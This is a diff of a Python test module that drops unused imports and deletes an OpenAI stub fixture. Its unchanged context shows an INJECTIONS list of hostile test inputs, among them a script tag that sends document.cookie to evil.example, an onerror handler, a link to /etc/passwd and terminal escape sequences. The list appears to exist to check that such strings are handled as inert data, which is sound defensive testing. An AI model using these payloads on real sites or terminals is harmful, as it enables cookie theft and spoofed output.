@@ -19,7 +19,7 @@ import subprocess
 import sys
 import tarfile
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from pathlib import Path
 
 import numpy as np
@@ -30,7 +30,7 @@ from tests.conftest import PROVIDER_ENV, clear_provider_env
 from tests.corpus.build import AS_OF, load_cases, materialize, run_dir_args
 from tests.corpus.records import record_runs
 from tests.corpus.runner import CliRun, run_inprocess
-from tests.integration.openai_stub import RunningStub, openai_stub_in_env
+from tests.integration.openai_stub import RunningStub
 from tests.unit import malicious_artifacts as ma
 
 pytestmark = pytest.mark.slow
@@ -233,13 +233,6 @@ INJECTIONS = [
     "<script>fetch('http://evil.example/?'+document.cookie)</script><img src=x onerror=alert(1)>",
     "[/bold] [link=file:///etc/passwd]x[/link] \x1b[2J\x1b]0;owned\x07 ]]>",
 ]
-
-
-@pytest.fixture
-def stub(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[RunningStub]:
-    clear_provider_env(monkeypatch, tmp_path, (*PROVIDER_ENV, "GATES_DB"))
-    with openai_stub_in_env(monkeypatch) as running:
-        yield running
 
 
 def test_template_and_format_strings_in_the_dossier_are_data(
